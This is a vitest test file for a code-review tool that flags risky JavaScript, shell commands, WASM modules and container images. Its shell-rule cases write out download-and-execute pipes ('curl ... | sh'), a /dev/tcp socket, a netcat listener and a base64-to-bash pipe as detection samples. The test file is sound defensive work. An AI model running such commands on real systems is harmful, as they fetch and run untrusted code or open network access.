/** Each review rule with code that triggers it and code that does not (JS, shell, WASM, verdicts). */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { reviewJs } from '../../src/governance/review/js.ts';
import { shellcheck, shellRules } from '../../src/governance/review/shell.ts';
import { judge } from '../../src/governance/review/types.ts';
import { reviewWasm } from '../../src/governance/review/wasm.ts';
import { describeIf } from '../support/requirements.ts';

const js = (source: string) => reviewJs(source, { maxLineLength: 200, maxStringLength: 100 }).map((f) => f.rule);

describe('JS rules (acorn AST)', () => {
  const cases: [string, string, string][] = [
    ['js-eval', 'export default () => eval("1+1")', 'export default (o) => o.eval("x") // eval in a comment'],
    ['js-eval', 'export default () => globalThis["eval"]("1")', 'const s = "eval(1)"; export default () => s'],
    [
      'js-new-function',
      'export default () => new Function("return 1")()',
      'class Function2 {}; export default () => new Function2()',
    ],
    ['js-new-function', 'export default () => Function("return 1")()', 'export default () => function () {}'],
    ['js-dynamic-import', 'export default async () => import("node:fs")', 'export default async () => "import(x)"'],
    [
      'js-webassembly',
      'export default () => WebAssembly.compile(new Uint8Array())',
      'export default () => ({ WebAssembly: 1 }).WebAssembly',
    ],
    [
      'js-atomics-wait',
      'export default () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1)',
      'export default () => Atomics.add(new Int32Array(4), 0, 1)',
    ],
    ['js-long-line', `export default () => ${'1 + '.repeat(100)}1`, 'export default () => 1'],
    ['js-long-string', `export default () => "${'a'.repeat(150)}"`, 'export default () => "short"'],
  ];
  it.each(cases)('%s: triggered, and not by the look-alike', (rule, bad, good) => {
    expect(js(bad)).toContain(rule);
    expect(js(good)).not.toContain(rule);
  });

  it('a local binding named eval shadows the global', () => {
    expect(js('const eval2 = 1; function f(eval) { return eval } export default f')).not.toContain('js-eval');
  });

  it('reports the line', () => {
    const [finding] = reviewJs('export default () => {\n  return 1;\n  eval("x");\n}', {
      maxLineLength: 1000,
      maxStringLength: 1000,
    });
    expect(finding).toMatchObject({ rule: 'js-eval', line: 3 });
  });
});

describe('shell rules (lexed commands)', () => {
  const rules = (s: string) => shellRules(s).map((f) => f.rule);
  const cases: [string, string, string][] = [
    ['sh-download-exec', 'curl -fsSL https://x.example/i.sh | sh', 'curl -fsSL https://x.example/data.json > out.json'],
    ['sh-download-exec', 'bash -c "$(wget -qO- http://x/i)"', 'echo "curl http://x | sh"'],
    ['sh-dev-tcp', 'exec 3<>/dev/tcp/10.0.0.1/80', 'echo "/dev/null is fine" > /dev/null'],
    ['sh-netcat', 'nc -l 4444', 'echo nc # nc in a comment'],
    ['sh-base64-exec', 'echo ZWNobyBoaQ== | base64 -d | bash', 'echo aGk= | base64 -d'],
  ];
  it.each(cases)('%s: triggered, and not by the look-alike', (rule, bad, good) => {
    expect(rules(bad)).toContain(rule);
    expect(rules(good)).not.toContain(rule);
  });
});

const hasShellcheck = (() => {
  try {
    execFileSync('shellcheck', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

describeIf(
  { ok: hasShellcheck, reason: 'shellcheck is not installed (apt-get install shellcheck)' },
  'shellcheck',
  () => {
    it('reports shellcheck findings with their SC code and line', async () => {
      const findings = await shellcheck('#!/bin/bash\necho $1\n', 'bash');
      expect(findings?.some((f) => f.rule === 'sh-shellcheck' && f.message.includes('SC2086') && f.line === 2)).toBe(
        true,
      );
      expect(await shellcheck('#!/bin/bash\necho "$1"\n', 'bash')).toEqual([]);
    });
  },
);

/** A minimal core module: one memory (with or without a maximum), optionally an import. */
function wasmModule(opts: { max?: number; importFn?: boolean }): Uint8Array {
  const bytes = [0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00];
  if (opts.importFn) {
    bytes.push(0x01, 0x04, 0x01, 0x60, 0x00, 0x00); // type section: () -> ()
    const mod = [...Buffer.from('env')];
    const field = [...Buffer.from('spawn')];
    const entry = [0x01, mod.length, ...mod, field.length, ...field, 0x00, 0x00];
    bytes.push(0x02, entry.length, ...entry);
  }
  const limits = opts.max === undefined ? [0x00, 0x01] : [0x01, 0x01, opts.max];
  bytes.push(0x05, limits.length + 1, 0x01, ...limits);
  const m = new Uint8Array(bytes);
  expect(WebAssembly.validate(m)).toBe(true);
  return m;
}

describe('WASM rules (section reader)', () => {
  it('wasm-memory-unbounded and wasm-import', () => {
    const rules = reviewWasm(wasmModule({ importFn: true }), 1024 ** 2).map((f) => f.rule);
    expect(rules).toEqual(expect.arrayContaining(['wasm-memory-unbounded', 'wasm-import']));
    expect(reviewWasm(wasmModule({ max: 2 }), 1024 ** 2).map((f) => f.rule)).toEqual([]);
  });
  it('wasm-size', () => {
    expect(reviewWasm(wasmModule({ max: 2 }), 10).map((f) => f.rule)).toEqual(['wasm-size']);
  });
});

describe('verdicts', () => {
  it('reject beats warn beats pass; config overrides and turns rules off', () => {
    expect(judge([{ rule: 'js-eval', message: '' }], {}, 't').verdict).toBe('warn');
    expect(judge([{ rule: 'js-eval', message: '' }], { 'js-eval': 'reject' }, 't').verdict).toBe('reject');
    expect(judge([{ rule: 'js-eval', message: '' }], { 'js-eval': 'off' }, 't')).toMatchObject({
      verdict: 'pass',
      findings: [],
    });
    expect(judge([{ rule: 'js-long-line', message: '' }], {}, 't').verdict).toBe('pass');
  });
});

/** A local image to inspect (the docker tier's runner images are built locally by .ci/docker.sh). */
const localImage = (() => {
  try {
    return execFileSync(
      'docker',
      ['images', '--filter', 'label=strata.runner', '--format', '{{.Repository}}:{{.Tag}}'],
      {
        timeout: 20_000,
        encoding: 'utf8',
      },
    )
      .split('\n')
      .find((l) => l && !l.includes('<none>'));
  } catch {
    return undefined;
  }
})();

describeIf(
  { ok: localImage !== undefined, reason: 'no Docker daemon or no local runner image (.ci/docker.sh builds them)' },
  'container rules (docker image inspect)',
  () => {
    it('flags an image that runs as root; an unknown image says it cannot be inspected', async () => {
      const { reviewContainer } = await import('../../src/governance/review/container.ts');
      const rules = (await reviewContainer(localImage as string, 20_000)).map((f) => f.rule);
      expect(rules).toContain('container-root-user');
      expect(rules).not.toContain('container-inspect-unavailable');
      const missing = (await reviewContainer('strata-no-such-image:never', 20_000)).map((f) => f.rule);
      expect(missing).toEqual(['container-inspect-unavailable']);
    }, 60_000);
  },
);
